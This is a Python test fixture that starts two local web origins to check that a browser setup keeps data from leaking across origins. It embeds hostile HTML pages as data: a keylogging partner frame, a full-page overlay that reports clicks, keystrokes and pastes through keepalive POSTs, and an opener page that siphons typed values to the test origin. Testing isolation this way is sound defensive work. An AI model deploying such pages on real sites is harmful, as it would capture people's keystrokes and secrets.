"""Two local origins: an app whose pages a test writes, and another origin that logs every
request it receives (what must never reach it) and serves a frame for embedding."""

from __future__ import annotations

import base64
import threading
import time
from collections import Counter
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

FRAME_TEXT = "text inside the other origin's frame"
# A partner frame whose own script reports every keystroke, value and file it gets.
PARTNER_PAGE = """<title>Partner</title>
<label>Code <input id="code"
  onkeydown="fetch('/key?k=' + encodeURIComponent(event.key))"
  oninput="fetch('/value?v=' + encodeURIComponent(this.value))"></label>
<label>File <input type="file" id="file"
  onchange="fetch('/file?n=' + this.files.length + '&name=' + this.files[0].name)"></label>
<script>addEventListener("focus", () => document.getElementById("code").focus())</script>"""
SLOW_DOWNLOAD_S = 120  # the app's /slow-download trickles a byte a second for this long


class _Server:
    def __init__(self, host: str, handler: type[BaseHTTPRequestHandler]) -> None:
        self.httpd = ThreadingHTTPServer((host, 0), handler)
        self.httpd.daemon_threads = True
        # a short poll: stop() waits for the serving loop to notice, at every test's end
        self.thread = threading.Thread(
            target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )
        self.url = f"http://{host}:{self.httpd.server_address[1]}"

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)


class TwoOrigins:
    """``app`` (127.0.0.1) serves ``pages`` (HTML by path, ``{outside}`` filled in) and
    ``redirects`` (path -> Location, ``{outside}`` filled in), and ``/slow-download``, a download
    that never finishes in a test's time, and asks for HTTP basic auth on ``protected`` paths;
    ``outside`` (127.0.0.2) answers every request with a
    small page (``/frame`` with ``FRAME_TEXT``, ``/partner`` with ``PARTNER_PAGE``) and records
    it in ``hits`` as path and query (a POST as ``POST <path>``)."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.redirects: dict[str, str] = {}
        self.dynamic: dict[str, Callable[[str], str]] = {}  # path -> page of the request path
        self.flaky: Counter[str] = Counter()  # path -> how many requests lose their connection
        self.protected: dict[str, str] = {}  # path -> "user:password" of HTTP basic auth
        self.hits: list[str] = []
        origins = self

        class App(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = self.path.split("?")[0]
                if origins.flaky[path] > 0:
                    origins.flaky[path] -= 1
                    self.close_connection = True
                    self.connection.shutdown(2)
                    return
                if path == "/slow-download":
                    _trickle(self)
                    return
                if path in origins.protected and not _authorized(self, origins.protected[path]):
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="staff"')
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                if path in origins.redirects:
                    self.send_response(302)
                    self.send_header("Location", origins.fill(origins.redirects[path]))
                    self.end_headers()
                    return
                if path in origins.dynamic:
                    _send(self, origins.dynamic[path](self.path))
                    return
                body = origins.fill(origins.pages.get(path, "<title>App</title><h1>App</h1>"))
                _send(self, body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        class Outside(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                origins.hits.append(self.path)
                if self.headers.get("Authorization"):
                    origins.hits.append(f"Authorization {self.headers['Authorization']}")
                if self.path.startswith("/frame"):
                    _send(self, f"<title>Frame</title><p id='inside'>{FRAME_TEXT}</p>")
                elif self.path.startswith("/partner"):
                    _send(self, PARTNER_PAGE)
                elif self.path.split("?")[0] in OUTSIDE_PAGES:
                    _send(self, OUTSIDE_PAGES[self.path.split("?")[0]])
                else:
                    _send(self, "<title>Outside</title><h1>outside</h1>")

            def do_POST(self) -> None:
                origins.hits.append(f"POST {self.path}")
                _send(self, "<title>Outside</title><h1>outside</h1>")

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._app = _Server("127.0.0.1", App)
        self._outside = _Server("127.0.0.2", Outside)
        self.app, self.outside = self._app.url, self._outside.url

    def fill(self, text: str) -> str:
        return text.replace("{outside}", self.outside)

    def __enter__(self) -> TwoOrigins:
        self._app.thread.start()
        self._outside.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._app.stop()
        self._outside.stop()


def _authorized(handler: BaseHTTPRequestHandler, credentials: str) -> bool:
    expected = "Basic " + base64.b64encode(credentials.encode()).decode()
    return handler.headers.get("Authorization") == expected


def _send(handler: BaseHTTPRequestHandler, body: str) -> None:
    data = body.encode()
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    handler.send_header("Content-Length", str(len(data)))
    handler.end_headers()
    handler.wfile.write(data)


def _trickle(handler: BaseHTTPRequestHandler) -> None:
    """A download whose body comes a byte a second: its save never ends in a test's time."""
    handler.send_response(200)
    handler.send_header("Content-Type", "application/octet-stream")
    handler.send_header("Content-Disposition", 'attachment; filename="slow.bin"')
    handler.send_header("Content-Length", str(4096 + SLOW_DOWNLOAD_S))
    handler.end_headers()
    try:
        handler.wfile.write(b"x" * 4096)  # enough for the browser to start the download
        for _ in range(SLOW_DOWNLOAD_S):
            handler.wfile.write(b"x")
            handler.wfile.flush()
            time.sleep(1)
    except OSError:  # the browser gave the download up
        pass


# Pages of the outside origin for the channel attacks, by path. ``/logger`` reports every
# pointer event (with its coordinates), focus, paste and value its document gets, as POSTs;
# ``/opener`` keeps a token in its own storage and cookie, opens a blank window of its own
# origin, writes a field into it and reports what is typed there.
LOGGER_PAGE = """<title>Partner</title>
<textarea id="pad" aria-label="Pad" style="position:fixed;inset:0;width:100%;height:100%"
  oninput="navigator.sendBeacon('/value?v=' + encodeURIComponent(this.value))"></textarea>
<script>
// what a step may wait for: the clicks whose report the origin has answered (a report still on
// its way when the next page takes the frame away may be lost)
let reported = 0;
for (const kind of ["click", "auxclick", "mousedown", "mouseup", "mousemove", "wheel",
                    "pointerover", "focusin", "paste", "keydown"]) {
  // a keepalive request outlives the page: what the frame heard arrives though the test goes on
  document.addEventListener(kind, (event) => {
    const report = fetch(
      `/${kind}?x=${event.clientX}&y=${event.clientY}&k=${encodeURIComponent(event.key || "")}`,
      {method: "POST", keepalive: true});
    if (kind === "click") report.then(() => { document.body.dataset.clicks = ++reported; });
  }, true);
}
</script>"""
B_TOKEN = "b-token-7f3c9e21"
OPENER_PAGE = """<title>Opener</title>
<script>
localStorage.setItem("token", "B_TOKEN");
document.cookie = "token=B_TOKEN; SameSite=None; Secure";
const opened = window.open("", "_blank");
opened.document.write('<title>Blank</title><label>Code <input id="code"></label>');
setInterval(() => {
  const value = opened.document.getElementById("code").value;
  if (value) fetch("/value?v=" + encodeURIComponent(value));
}, 50);
</script>""".replace("B_TOKEN", B_TOKEN)
COOKIE_PAGE = """<title>Cookie</title>
<script>document.cookie = "token=B_TOKEN; SameSite=None; Secure";</script>""".replace(
    "B_TOKEN", B_TOKEN
)
OUTSIDE_PAGES = {"/logger": LOGGER_PAGE, "/opener": OPENER_PAGE, "/cookie": COOKIE_PAGE}
